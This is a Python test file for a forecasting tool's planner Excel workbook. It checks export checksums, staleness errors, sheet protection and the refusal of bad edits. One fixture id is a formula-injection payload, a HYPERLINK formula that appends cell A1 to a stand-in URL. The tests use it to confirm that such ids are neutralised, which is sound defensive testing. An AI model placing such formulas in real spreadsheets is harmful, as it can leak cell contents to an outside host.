"""The planner workbook round trip cannot surprise: what was exported, what moved since,
which cells were edited where they are not read, and formulas / protection in the sheet."""

from __future__ import annotations

import numpy as np
import openpyxl
import pandas as pd
import pytest
from synthetic import plan_lines

from sopforecast.errors import DataError
from sopforecast.planning.layouts import write_plan
from sopforecast.planning.lines import series_keys, summing
from sopforecast.planning.staleness import changed_cells, is_stale, lines_checksum, stale_error
from sopforecast.planning.workbook import read_planner_workbook, read_workbook_export

HIERARCHY = ["category/sku"]
META = {
    "plan": "demo",
    "cycle": "2026-01",
    "version_id": 7,
    "number": 2,
    "name": "2026-01 v2",
    "status": "draft",
    "revision": 3,
}
# ids a spreadsheet or pandas would change: leading zeros, NA-like words, a formula prefix
ODD = [("00101", "0007"), ("00101", "NA"), ("NULL", "None"), ("-minus", '=HYPERLINK("http://x/?"&A1,"open")')]


@pytest.fixture(scope="module")
def plan():
    bottom = pd.DataFrame(ODD, columns=["category", "sku"])
    bottom["unique_id"] = bottom["category"] + "/" + bottom["sku"]
    S, levels = summing(bottom, HIERARCHY)
    months = pd.date_range("2026-01-01", periods=4, freq="MS")
    rng = np.random.default_rng(5)
    values = S.to_numpy() @ rng.uniform(10, 100, (len(bottom), len(months)))
    lines = plan_lines(S, levels, values, months)
    past = pd.date_range("2025-01-01", periods=12, freq="MS")
    hist = S.to_numpy() @ rng.uniform(10, 100, (len(bottom), len(past)))
    history = pd.DataFrame(
        {
            "unique_id": np.repeat(S.index.to_numpy(), len(past)),
            "ds": np.tile(past, len(S)),
            "y": hist.ravel(),
        }
    )
    return lines, series_keys(bottom, HIERARCHY), history, S


@pytest.fixture
def book(tmp_path, plan):
    lines, keys, history, _ = plan
    return write_plan(lines, tmp_path / "plan.xlsx", layout="planner", keys=keys, history=history, meta=META)


def _layout(ws):
    header = [c.value for c in ws[2]]
    uid, measure = header.index("unique_id") + 1, header.index("measure") + 1
    rows = {(ws.cell(r, uid).value, ws.cell(r, measure).value): r for r in range(3, ws.max_row + 1)}
    return header, rows


def _set(path, cells: dict) -> None:
    """Set cells by ``(shown id, measure, header)`` or by coordinate."""
    wb = openpyxl.load_workbook(path)
    ws = wb["Plan"]
    header, rows = _layout(ws)
    for where, value in cells.items():
        if isinstance(where, str):
            ws[where].value = value
        else:
            uid, measure, column = where
            ws.cell(rows[(uid, measure)], header.index(column) + 1).value = value
    wb.save(path)


def _coordinate(path, uid, measure, column) -> str:
    ws = openpyxl.load_workbook(path)["Plan"]
    header, rows = _layout(ws)
    return ws.cell(rows[(uid, measure)], header.index(column) + 1).coordinate


def test_export_records_meta_and_checksum(book, plan):
    lines = plan[0]
    meta, exported = read_workbook_export(book)
    assert meta == {**META, "checksum": lines_checksum(lines)}
    assert len(meta["checksum"]) == 64
    readme = [c.value for c in openpyxl.load_workbook(book)["Read me"]["A"]]
    assert "name: 2026-01 v2" in readme and "revision: 3" in readme
    assert len(exported) == len(lines) and set(exported["key"]) == set(lines["unique_id"])
    assert not changed_cells(exported, lines).shape[0]
    _, edits_meta = read_planner_workbook(book, author="a", reason="r")
    assert edits_meta == meta


def test_checksum_sees_a_changed_plan_cell_and_nothing_else(plan):
    lines = plan[0]
    assert lines_checksum(lines) == lines_checksum(lines.sample(frac=1, random_state=0))
    assert lines_checksum(lines) == lines_checksum(lines.assign(final=lines["final"] * (1 + 1e-13)))
    moved = lines.copy()
    moved.loc[3, "final"] += 1
    assert lines_checksum(moved) != lines_checksum(lines)
    marked = lines.copy()
    marked.loc[3, "consensus"] = marked.loc[3, "final"]
    assert lines_checksum(marked) != lines_checksum(lines)


def test_stale_workbook_names_the_cells_that_moved(book, plan):
    lines = plan[0]
    meta, exported = read_workbook_export(book)
    assert not is_stale(meta, lines, revision=3)
    assert is_stale(meta, lines, revision=4)
    now = lines.copy()
    hit = now["unique_id"].eq("00101/NA") & now["ds"].eq(pd.Timestamp("2026-02-01"))
    now.loc[hit, "final"] = 400.0
    assert is_stale(meta, now, revision=3)
    assert is_stale({**meta, "checksum": None}, lines)  # an export without checksum cannot be checked
    changes = changed_cells(exported, now)
    assert changes.to_dict("records") == [
        {
            "key": "00101/NA",
            "month": "2026-02",
            "exported": pytest.approx(lines.loc[hit, "final"].iloc[0]),
            "current": 400.0,
        }
    ]
    err = stale_error("plan.xlsx", meta, changes, revision=5)
    assert isinstance(err, DataError) and err.exit_code == 2 and err.setting == "rebase"
    text = str(err)
    assert "plan.xlsx was exported from 2026-01 v2 at revision 3" in text and "now at revision 5" in text
    assert "00101/NA 2026-02:" in text and "now 400" in text and "rebase" in text
    assert "no exported plan cell differs" in str(stale_error("plan.xlsx", meta, changes.iloc[:0]))


def test_odd_ids_survive_and_neutralised_ids_map_back(book, plan):
    lines = plan[0]
    ws = openpyxl.load_workbook(book)["Plan"]
    _, rows = _layout(ws)
    shown = {uid for uid, _ in rows}
    assert {"00101/0007", "00101/NA", "NULL/None", '\'-minus/=HYPERLINK("http://x/?"&A1,"open")'} <= shown
    assert {"NULL", "00101", "'-minus"} <= shown
    tricky = '-minus/=HYPERLINK("http://x/?"&A1,"open")'
    shown_tricky = "'" + tricky
    _set(book, {(shown_tricky, "consensus", "2026-03"): 55.0, ("00101/NA", "consensus", "2026-01"): 0})
    edits, _ = read_planner_workbook(book, author="ann", reason="promo")
    assert sorted(zip(edits["key"], edits["month"], edits["value"], strict=True)) == [
        ('-minus/=HYPERLINK("http://x/?"&A1,"open")', "2026-03", 55.0),
        ("00101/NA", "2026-01", 0.0),
    ]
    assert set(edits["key"]) <= set(lines["unique_id"])


def test_no_live_formula_but_the_bottom_up_sums(book, plan):
    lines, _, _, S = plan
    wb = openpyxl.load_workbook(book)
    formulas = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if c.data_type == "f":
                    formulas.append((ws.title, c.row, c.value))
    _, rows = _layout(wb["Plan"])
    bottom_up = {r for (_, m), r in rows.items() if m == "bottom-up"}
    assert formulas and all(t == "Plan" and r in bottom_up for t, r, _ in formulas)
    assert all(v.startswith("=") and "SUMIF" in v or v[1:2].isalpha() for _, _, v in formulas)
    assert len(bottom_up) == len(S) - len(S.columns)  # one row per aggregate


def test_bottom_up_formula_adds_the_bottom_consensus(book, plan):
    lines, _, _, S = plan
    ws = openpyxl.load_workbook(book)["Plan"]
    header, rows = _layout(ws)
    col = header.index("2026-02") + 1
    measure_col = header.index("measure") + 1
    final = lines.set_index(["unique_id", "ds"])["final"]
    for agg in ["Total", "00101"]:
        formula = ws.cell(rows[(agg, "bottom-up")], col).value
        total = 0.0  # evaluate the few shapes we write: cell refs and SUMIF over blocks
        for part in formula[1:].split("+"):
            if part.startswith("SUMIF("):
                rng = part.split(",")[2].rstrip(")")
                a, b = (int("".join(ch for ch in x if ch.isdigit())) for x in rng.split(":"))
                total += sum(
                    ws.cell(r, col).value or 0
                    for r in range(a, b + 1)
                    if ws.cell(r, measure_col).value == "consensus"
                )
            else:
                total += ws[part].value
        expected = sum(final[(b, pd.Timestamp("2026-02-01"))] for b in S.bottom_of(agg))
        assert total == pytest.approx(expected)


def test_sheet_is_protected_and_only_consensus_plan_cells_are_unlocked(book):
    ws = openpyxl.load_workbook(book)["Plan"]
    assert ws.protection.sheet and not ws.protection.password and not ws.protection.autoFilter
    header, rows = _layout(ws)
    for (uid, measure), r in rows.items():
        for month in ["2025-12", "2026-01", "2026-04"]:
            cell = ws.cell(r, header.index(month) + 1)
            editable = measure == "consensus" and month.startswith("2026")
            assert cell.protection.locked is not editable, (uid, measure, month)
        assert ws.cell(r, 1).protection.locked


def test_edits_outside_consensus_cells_are_refused_all_at_once(book):
    stat = _coordinate(book, "00101", "statistical", "2026-02")
    hist = _coordinate(book, "Total", "history", "2025-06")
    key = _coordinate(book, "00101/0007", "consensus", "sku")
    level = _coordinate(book, "NULL", "history", "level")
    _set(
        book,
        {
            ("00101", "statistical", "2026-02"): 999,
            ("Total", "history", "2025-06"): 1,
            ("00101/0007", "consensus", "sku"): "0008",
            ("NULL", "history", "level"): "brand",
            ("NULL/None", "consensus", "2026-01"): "lots",
            ("00101/NA", "consensus", "2026-04"): None,
            ("Total", "consensus", "2025-03"): 5,
        },
    )
    with pytest.raises(DataError) as info:
        read_planner_workbook(book, author="a", reason="r")
    text = str(info.value)
    assert "7 problem(s) in the workbook; nothing was applied" in text
    for cell in (stat, hist, key, level):
        assert f"Plan!{cell}:" in text
    assert "the statistical of '00101' for 2026-02 reads 999" in text
    assert "sku of '00101/0007' reads '0008', exported as '0007'" in text
    assert "'lots' is not a number" in text and "blank" in text and "2025-03 is not a plan month" in text
    assert info.value.exit_code == 2


def test_edit_under_a_renamed_month_header_is_refused(book):
    header_cell = _coordinate(book, "Total", "consensus", "2026-03").rstrip("0123456789") + "2"
    edit = _coordinate(book, "00101", "consensus", "2026-03")
    _set(book, {("00101", "consensus", "2026-03"): 1234.0})
    _set(book, {header_cell: "Mar 26"})
    with pytest.raises(DataError) as info:
        read_planner_workbook(book, author="a", reason="r")
    text = str(info.value)
    assert f"Plan!{header_cell}: the header reads 'Mar 26', exported as '2026-03'" in text
    assert f"Plan!{edit}: edited under a changed header" in text


def test_added_column_and_unknown_rows_are_refused(book):
    ws = openpyxl.load_workbook(book)["Plan"]
    extra = ws.cell(2, ws.max_column + 1).coordinate
    last = ws.max_row
    _set(book, {extra: "notes", f"B{last + 1}": "Ghost", f"H{last + 1}": 5, f"A{last + 2}": None})
    with pytest.raises(DataError) as info:
        read_planner_workbook(book, author="a", reason="r")
    text = str(info.value)
    assert f"Plan!{extra}: column 'notes' was not exported" in text
    assert "series 'Ghost' was not exported" in text


def test_renamed_measure_is_refused_not_skipped(book):
    _set(book, {("00101", "consensus", "2026-02"): 10.0, ("00101", "consensus", "measure"): "Consensus"})
    with pytest.raises(DataError, match="measure 'Consensus' of '00101' is not one of"):
        read_planner_workbook(book, author="a", reason="r")


def test_typed_formula_value_and_untouched_bottom_up_rows_read_fine(book):
    # a saved workbook holds the number Excel computed for a formula typed in a consensus cell
    _set(book, {("Total", "consensus", "2026-04"): 321.5})
    edits, _ = read_planner_workbook(book, author="a", reason="r")
    assert edits[["key", "month", "value"]].to_dict("records") == [
        {"key": "Total", "month": "2026-04", "value": 321.5}
    ]
